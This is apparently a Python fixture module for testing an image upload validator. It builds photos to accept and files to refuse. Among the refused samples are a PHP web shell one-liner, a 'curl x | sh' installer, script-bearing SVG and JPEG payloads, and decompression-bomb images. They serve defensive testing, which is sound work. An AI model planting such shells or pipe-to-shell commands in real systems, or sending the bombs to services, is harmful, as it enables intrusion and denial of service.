"""Photos as people and attackers send them, made here: what must be accepted, what must be refused, and why."""

import io
import struct
import zlib
from collections.abc import Iterator
from functools import cache

from PIL import Image
from PIL.PngImagePlugin import PngInfo

SECRET = b"GEHEIM"  # in every piece of metadata; in no file that is served
RED, GREEN, BLUE, GREY = (220, 20, 20), (20, 180, 20), (20, 20, 220), (200, 200, 200)
CORNERS = (RED, GREEN, BLUE, GREY)  # top left, top right, bottom left, bottom right
SIZE = (480, 320)
_GPS, _ORIENTATION, _MAKER = 0x8825, 0x0112, 0x010F
# How the camera stored what is to be seen upright, by the EXIF standard's table of rows and columns.
_STORED = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def corners(size: tuple[int, int] = SIZE) -> Image.Image:
    """A picture with a colour in each quarter, so that which way is up can be read off."""
    small = Image.new("RGB", (2, 2))
    small.putdata(CORNERS)
    return small.resize(size, Image.Resampling.NEAREST)


def encoded(picture: Image.Image, name: str = "JPEG", **options: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, name, **options)
    return buffer.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    tags = Image.Exif()
    tags[_ORIENTATION] = orientation
    tags[_MAKER] = SECRET.decode()
    tags[_GPS] = {1: "S", 2: (7.0, 15.0, 27.0), 3: "E", 4: (112.0, 45.0, 6.0), 29: SECRET.decode()}
    return tags


def _with_thumbnail() -> bytes:
    """As cameras add one: a whole JPEG behind the tags, with its own secret."""
    return exif().tobytes() + encoded(Image.new("RGB", (16, 12)), comment=SECRET)


def _said() -> PngInfo:
    said = PngInfo()
    said.add_text("Author", SECRET.decode())
    said.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET.decode()}</x:xmpmeta>")
    said.add_text("Comment", SECRET.decode() * 99, zip=True)
    return said


def turned(orientation: int, name: str = "JPEG", **options: object) -> bytes:
    picture = corners()
    stored = _STORED[orientation]
    return encoded(picture if stored is None else picture.transpose(stored), name, exif=exif(orientation), **options)


def accepted() -> dict[str, bytes]:
    """All show the four corners, upright, whatever was done to them."""
    picture = corners()
    jpeg = encoded(picture)
    files = {f"orientation {number}.jpg": turned(number) for number in _STORED}
    files["orientation 6.png"] = turned(6, "PNG")
    files["orientation 8.webp"] = turned(8, "WEBP", quality=90)
    files["progressive.jpg"] = encoded(picture, progressive=True)
    files["full chroma.jpg"] = encoded(picture, subsampling=0)
    files["cmyk.jpg"] = encoded(picture.convert("CMYK"))
    files["xmp.jpg"] = _with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + SECRET)
    files["iptc.jpg"] = _with_segment(jpeg, 0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x06" + SECRET)
    files["comment.jpg"] = encoded(picture, comment=SECRET)
    files["extended xmp.jpg"] = _with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xmp/extension/\0" + SECRET * 9)
    files["thumbnail.jpg"] = encoded(picture, exif=_with_thumbnail())
    files["spoken of.png"] = encoded(picture, "PNG", exif=exif(), pnginfo=_said())
    files["profile.webp"] = encoded(picture, "WEBP", icc_profile=profile("sRGB " + SECRET.decode()), quality=90)
    files["maker.jpg"] = _with_segment(jpeg, 0xEC, SECRET)
    files["broken exif.jpg"] = _with_segment(jpeg, 0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + SECRET)
    files["broken profile.jpg"] = encoded(picture, icc_profile=SECRET * 40)
    files["profile.jpg"] = encoded(picture, icc_profile=profile("sRGB " + SECRET.decode()))
    files["swapped profile.jpg"] = encoded(_swapped(picture), icc_profile=profile(SECRET.decode(), swapped=True))
    files["script behind it.jpg"] = jpeg + b"<script>alert('" + SECRET + b"')</script>"
    files["two pictures.mpo.jpg"] = encoded(
        picture, "MPO", save_all=True, append_images=[Image.new("RGB", SIZE)], exif=exif()
    )
    files["plain.png"] = encoded(picture, "PNG")
    files["sixteen bits.png"] = png(SIZE, 16, 2, b"".join(_rows16(picture)), text=True)
    files["palette.png"] = encoded(picture.quantize(16), "PNG")
    files["see-through palette.png"] = encoded(picture.quantize(16), "PNG", transparency=15)
    files["see-through colour.png"] = encoded(picture, "PNG", transparency=(1, 2, 3))
    files["see-through.png"] = encoded(_see_through(picture), "PNG")
    files["animated.png"] = encoded(picture, "PNG", save_all=True, append_images=[Image.new("RGB", SIZE)])
    files["lossy.webp"] = encoded(picture, "WEBP", exif=exif(), xmp=SECRET)
    files["lossless.webp"] = encoded(_see_through(picture), "WEBP", lossless=True)
    files["animated.webp"] = encoded(picture, "WEBP", save_all=True, append_images=[Image.new("RGB", SIZE)] * 2)
    return files


def accepted_grey() -> dict[str, bytes]:
    """All show dark on the left and light on the right."""
    ramp = Image.new("L", (2, 1))
    ramp.putdata((64, 192))
    picture = ramp.resize(SIZE, Image.Resampling.NEAREST)
    deep = b"".join(b"\0" + struct.pack(">240H", *[64 * 257] * 240) + struct.pack(">240H", *[192 * 257] * 240)
                    for _ in range(SIZE[1]))  # fmt: skip
    return {
        "grey.jpg": encoded(picture),
        "grey.png": encoded(picture, "PNG"),
        "grey, sixteen bits.png": png(SIZE, 16, 0, deep),
        "grey and see-through.png": encoded(picture.convert("LA"), "PNG"),
        "black and white.png": encoded(picture.point(lambda value: 255 * (value > 128)).convert("1"), "PNG"),
    }


def refused() -> dict[str, tuple[bytes, str]]:
    """What is sent as a photo and is none: the file and the reason."""
    picture = corners()
    jpeg, plain, webp = encoded(picture), encoded(picture, "PNG"), encoded(picture, "WEBP")
    return {
        "nothing.jpg": (b"", "empty"),
        "cut off.jpg": (jpeg[: len(jpeg) // 2], "broken"),
        "cut off.png": (plain[: len(plain) // 2], "broken"),
        "cut off.webp": (webp[: len(webp) // 2], "broken"),
        "only the start.jpg": (jpeg[:3], "broken"),
        "head and noise.png": (plain[:33] + b"\xa5" * 900, "broken"),
        "phone.heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400), "heic"),
        "new.avif": (encoded(picture, "AVIF"), "avif"),
        "old.gif": (encoded(picture, "GIF"), "gif"),
        "moving.gif": (encoded(picture, "GIF", save_all=True, append_images=[picture.rotate(90)]), "gif"),
        "scan.tiff": (encoded(picture, "TIFF"), "tiff"),
        "paint.bmp": (encoded(picture, "BMP"), "bmp"),
        "script.svg": (b'<?xml version="1.0"?><svg xmlns="x"><script>alert(1)</script></svg>', "svg"),
        "page.jpg": (b"<!DOCTYPE html><html><body>x</body></html>", "html"),
        "price list.pdf": (b"%PDF-1.7\n%\xe2\xe3", "pdf"),
        "setup.jpg": (b"MZ\x90\0\x03\0\0\0" + bytes(500), "program"),
        "daemon.jpg": (b"\x7fELF\x02\x01\x01" + bytes(500), "program"),
        "install.jpg": (b"#!/bin/sh\ncurl x | sh\n", "program"),
        "shell.php.jpg": (b"<?php system($_GET['c']); ?>", "program"),
        "app.apk": (b"PK\x03\x04" + bytes(26) + b"AndroidManifest.xml", "program"),
        "many.zip": (b"PK\x03\x04" + bytes(26) + b"foto1.jpg", "archive"),
        "voice.ogg": (b"OggS" + bytes(60), "ogg"),
        "clip.mp4": (b"\0\0\0\x18ftypisom" + bytes(60), "mp4"),
        "note.jpg": (b"ini bukan foto", "text"),
        "noise.jpg": (bytes(range(1, 256)) * 9, "unknown"),
    }


def bombs() -> Iterator[tuple[str, bytes, str]]:
    """Small files that want a large machine."""
    yield "sixty megapixels.jpg", encoded(Image.new("L", (10_000, 6_000), 90), quality=30), "too_many_pixels"
    yield "black.png", png((20_000, 20_000), 1, 0, bytes(20_000 * 2_501)), "too_many_pixels"
    yield "tall.png", png((1, 60_000_000), 1, 0, bytes(120)), "too_many_pixels"
    yield "says large.jpg", _says(encoded(corners()), 65_500, 65_500), "too_many_pixels"
    yield "says large.png", png((2**31 - 1, 2**31 - 1), 8, 6, b"\0"), "too_many_pixels"
    yield "says large.webp", _webp(16_384, 16_384), "too_many_pixels"
    yield "profile.png", png(SIZE, 8, 0, bytes(481 * 320), chunk=(b"iCCP", b"x\0\0", 300_000_000)), "broken"
    yield "words.png", png(SIZE, 8, 0, bytes(481 * 320), chunk=(b"zTXt", b"x\0\0", 300_000_000)), "broken"
    large = encoded(Image.new("RGB", (6_000, 4_000), GREY), progressive=True)
    yield "scans of much.jpg", _scans(large, 50), "too_heavy"
    yield "scans.jpg", _scans(encoded(corners((2_000, 2_000)), progressive=True), 3_000), "too_heavy"


def png(
    size: tuple[int, int], depth: int, color: int, rows: bytes, *, text: bool = False,
    chunk: tuple[bytes, bytes, int] | None = None,
) -> bytes:  # fmt: skip
    """By hand: depths that no library writes. `rows` are filtered already; `chunk` is a name, what comes before its
    compressed zeros, and how many of those."""
    parts = [_chunk(b"IHDR", struct.pack(">IIBBBBB", *size, depth, color, 0, 0, 0))]
    if text:
        parts.append(_chunk(b"tEXt", b"Comment\0" + SECRET))
    if chunk is not None:
        parts.append(_chunk(chunk[0], chunk[1] + _zeros(chunk[2])))
    parts += [_chunk(b"IDAT", zlib.compress(rows, 1)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def profile(name: str, *, swapped: bool = False) -> bytes:
    """A matrix profile with the primaries of sRGB; swapped, it takes red for blue and blue for red."""
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7139)
    if swapped:
        red, blue = blue, red
    curve = b"curv\0\0\0\0" + struct.pack(">IH", 1, round(2.2 * 256)) + b"\0\0"
    words = name.encode() + b"\0"
    tags = {
        b"desc": b"desc\0\0\0\0" + struct.pack(">I", len(words)) + words + bytes(78),
        b"wtpt": _xyz((0.9642, 1.0, 0.8249)),
        **{tag: _xyz(value) for tag, value in ((b"rXYZ", red), (b"gXYZ", green), (b"bXYZ", blue))},
        **dict.fromkeys((b"rTRC", b"gTRC", b"bTRC"), curve),
    }
    table, body = b"", b""
    start = 132 + 12 * len(tags)
    for tag, value in tags.items():
        value += bytes(-len(value) % 4)
        table += tag + struct.pack(">II", start + len(body), len(value))
        body += value
    size = start + len(body)
    head = struct.pack(">I4sI", size, b"lcms", 0x02100000) + b"mntrRGB XYZ " + bytes(12) + b"acsp" + bytes(28)
    head += struct.pack(">3i", *(round(v * 65536) for v in (0.9642, 1.0, 0.8249)))
    return head + bytes(128 - len(head)) + struct.pack(">I", len(tags)) + table + body


def _xyz(value: tuple[float, float, float]) -> bytes:
    return b"XYZ \0\0\0\0" + struct.pack(">3i", *(round(v * 65536) for v in value))


def _swapped(picture: Image.Image) -> Image.Image:
    red, green, blue = picture.split()
    return Image.merge("RGB", (blue, green, red))


def _see_through(picture: Image.Image) -> Image.Image:
    """The middle is not there; what is, is."""
    mask = Image.new("L", SIZE, 255)
    mask.paste(0, (200, 120, 280, 200))
    layer = picture.convert("RGBA")
    layer.putalpha(mask)
    return layer


def _rows16(picture: Image.Image) -> Iterator[bytes]:
    width, data = picture.width * 3, picture.tobytes()
    for at in range(0, len(data), width):
        yield b"\0" + b"".join(bytes((value, value)) for value in data[at : at + width])


def _with_segment(jpeg: bytes, marker: int, content: bytes) -> bytes:
    return jpeg[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content + jpeg[2:]


def _says(jpeg: bytes, width: int, height: int) -> bytes:
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _scans(jpeg: bytes, times: int) -> bytes:
    """The last scan over and over."""
    at = jpeg.rindex(b"\xff\xda")
    return jpeg[:-2] + jpeg[at:-2] * times + jpeg[-2:]


def _webp(width: int, height: int) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    body = b"\x2f" + struct.pack("<I", bits) + bytes(60)
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


@cache
def _zeros(count: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(10**6)
    return b"".join(packer.compress(block) for _ in range(count // 10**6)) + packer.flush()
